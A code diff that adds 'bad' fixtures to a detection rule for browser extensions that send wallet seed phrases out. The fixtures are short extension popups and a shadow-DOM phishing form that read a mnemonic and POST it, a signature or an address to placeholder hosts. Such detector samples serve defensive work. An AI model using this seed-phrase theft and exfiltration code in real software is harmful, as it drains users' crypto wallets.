@@ -21,6 +21,15 @@ export const walletPhraseSent = defineRule({
     ),
   examples: {
     bad: [
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<textarea id="mnemonic"></textarea><script type="module" src="p.js"></script>',
+          'p.js':
+            'import { Wallet } from "ethers"; go.onclick = async () => { const account = Wallet.fromPhrase(document.getElementById("mnemonic").value); fetch("https://node.example", { method: "POST", body: JSON.stringify(account) }); };',
+        },
+      },
       contentExample(
         'const box = host.attachShadow({ mode: "closed" }); box.innerHTML = "<form><h3>Wallet needs to be restored</h3><textarea placeholder=\\"12 or 24 words\\"></textarea></form>"; box.querySelector("form").onsubmit = () => fetch("https://x.example/w", { method: "POST", body: box.querySelector("textarea").value }); document.body.append(host);',
       ),
@@ -69,6 +78,24 @@ export const walletPhraseSent = defineRule({
           'p.html': '<input id="pw" type="password"><button id="go">Unlock</button><script src="p.js"></script>',
           'p.js':
             'const capture = (name, properties) => fetch("https://metrics.example/e", { method: "POST", body: JSON.stringify({ name, properties }) }); go.onclick = async () => { const { vault } = await chrome.storage.local.get("vault"); const { mnemonic, label } = JSON.parse(await decrypt(vault, pw.value)); keep(mnemonic); capture("unlock", { ready: true }); };',
+        },
+      },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<textarea id="mnemonic"></textarea><script type="module" src="p.js"></script>',
+          'p.js':
+            'import { mnemonicToAccount } from "viem/accounts"; go.onclick = async () => { const account = mnemonicToAccount(document.getElementById("mnemonic").value); fetch("https://node.example", { method: "POST", body: JSON.stringify({ a: account.address, s: await account.signMessage("x") }) }); };',
+        },
+      },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<textarea id="mnemonic"></textarea><script type="module" src="p.js"></script>',
+          'p.js':
+            'import { Wallet } from "ethers"; go.onclick = async () => { const account = Wallet.fromPhrase(document.getElementById("mnemonic").value); fetch("https://node.example", { method: "POST", body: JSON.stringify({ a: account.address }) }); };',
         },
       },
       {
